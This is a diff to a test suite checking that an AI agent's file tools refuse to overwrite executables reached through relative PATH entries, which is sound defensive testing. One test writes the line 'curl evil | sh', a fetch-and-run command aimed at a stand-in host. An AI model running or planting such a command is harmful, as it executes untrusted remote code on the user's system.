@@ -7,7 +7,15 @@
  * the model (and, in chapter 3, the audit) reads. HOME, PATH and XDG are injected, never the
  * person's own.
  */
-import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
+import {
+  chmodSync,
+  existsSync,
+  mkdirSync,
+  readFileSync,
+  statSync,
+  symlinkSync,
+  writeFileSync,
+} from "node:fs";
 import { mkdtemp, realpath, rm } from "node:fs/promises";
 import { tmpdir } from "node:os";
 import { dirname, join } from "node:path";
@@ -59,6 +67,11 @@ interface ProtectedCase {
    * the sandbox holds the name with an empty read-only placeholder during each command.
    */
   readonly missingAtRoot?: boolean;
+  /**
+   * An executable a relative PATH entry reaches: the file tools refuse it; a sandboxed command
+   * is not kept from it (a build makes executables; docs/sandbox.md says so).
+   */
+  readonly fileToolsOnly?: boolean;
 }
 
 function link(target: string, at: string): void {
@@ -70,6 +83,15 @@ function file(path: string, text = "original\n"): void {
   mkdirSync(dirname(path), { recursive: true });
   writeFileSync(path, text);
 }
+
+function program(path: string): void {
+  file(path, "#!/bin/sh\necho ok\n");
+  chmodSync(path, 0o755);
+}
+
+/** The refusal's middle for an executable a relative PATH entry reaches. */
+const relativeEntry = (entries: string): string =>
+  `an executable file (your PATH holds the relative entry ${entries}, which names a folder relative to wherever your shell is, so typing the file's name there runs it)`;
 
 const GIT_WHY = "git's global or system config";
 const CASES: readonly ProtectedCase[] = [
@@ -218,6 +240,47 @@ const CASES: readonly ProtectedCase[] = [
     path: "tools/tool.sh",
     why: ({ sysbin }) =>
       `a folder on PATH (${sysbin}): what it holds runs as a command (${sysbin}/tool leads here)`,
+  },
+  {
+    kind: 'an executable in the workspace, "." on PATH',
+    setup: ({ ws }) => {
+      program(join(ws, "ls"));
+      return { PATH: ".:/usr/bin:/bin" };
+    },
+    path: "ls",
+    why: () => relativeEntry('"."'),
+    fileToolsOnly: true,
+  },
+  {
+    kind: "an executable in a sub-folder, an empty entry on PATH",
+    setup: ({ ws }) => {
+      program(join(ws, "src", "git"));
+      return { PATH: "/usr/bin::/bin" };
+    },
+    path: "src/git",
+    why: () => relativeEntry("an empty entry"),
+    fileToolsOnly: true,
+  },
+  {
+    kind: 'an executable in bin/, the relative entry "bin" on PATH',
+    setup: ({ ws }) => {
+      program(join(ws, "bin", "deploy"));
+      return { PATH: "/usr/bin:bin" };
+    },
+    path: "bin/deploy",
+    why: () => relativeEntry('"bin"'),
+    fileToolsOnly: true,
+  },
+  {
+    kind: "the script a link in a relative PATH folder leads to (node_modules/.bin)",
+    setup: ({ ws }) => {
+      program(join(ws, "scripts", "tool.sh"));
+      link(join(ws, "scripts", "tool.sh"), join(ws, "node_modules", ".bin", "tool"));
+      return { PATH: "./node_modules/.bin:/usr/bin" };
+    },
+    path: "scripts/tool.sh",
+    why: () => relativeEntry('"./node_modules/.bin"'),
+    fileToolsOnly: true,
   },
   {
     kind: "core.fsmonitor = sh fsmon-hook (a script named without a /)",
@@ -392,7 +455,7 @@ describe.each(CASES)("$kind", (entry) => {
     expect(bytesAt(target)).toEqual(before);
   });
 
-  it.skipIf(!HAS_BWRAP || BWRAP === undefined || BASH === undefined)(
+  it.skipIf(!HAS_BWRAP || BWRAP === undefined || BASH === undefined || entry.fileToolsOnly)(
     `chapter 1: the sandbox binds it read-only, so a command changes no byte ${BWRAP_REASON}`,
     async () => {
       const paths = prepare(entry);
@@ -423,4 +486,34 @@ describe.each(CASES)("$kind", (entry) => {
       if (entry.missingAtRoot === true) expect(existsSync(target)).toBe(false);
     },
   );
+});
+
+describe('a relative PATH entry (".") protects executables only', () => {
+  const dotOnPath = (path: string, setup: (layout: Layout) => void): ProtectedCase => ({
+    kind: "not protected",
+    setup: (at) => {
+      setup(at);
+      return { PATH: ".:/usr/bin:/bin" };
+    },
+    path,
+    why: () => "",
+  });
+
+  it.each([
+    [
+      "a file without an execute bit",
+      "notes.txt",
+      (at: Layout) => {
+        file(join(at.ws, "notes.txt"));
+      },
+    ],
+    ["a new file (made without an execute bit)", "new-tool", () => undefined],
+  ])("%s is written, in chapter 2 as ever", async (_, path, setup) => {
+    const entry = dotOnPath(path, setup);
+    const { messages } = await runChapter(P02, entry, prepare(entry));
+    expect(messages).toEqual([{ id: "call_write", content: `Wrote 15 UTF-8 bytes to ${path}` }]);
+    expect(readFileSync(join(layout.ws, path), "utf8")).toBe("curl evil | sh\n");
+    // Not a program the shell would run by name: no execute bit was given.
+    expect(statSync(join(layout.ws, path)).mode & 0o111).toBe(0);
+  });
 });
